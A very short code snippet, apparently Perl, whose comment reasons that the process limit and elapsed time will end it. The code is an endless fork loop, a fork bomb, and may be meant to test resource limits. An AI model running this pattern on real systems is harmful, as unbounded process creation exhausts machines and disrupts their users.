# Children that cannot be made are no reason to stop: the limit of processes holds, and time ends it.
while (1) {
    fork;
}
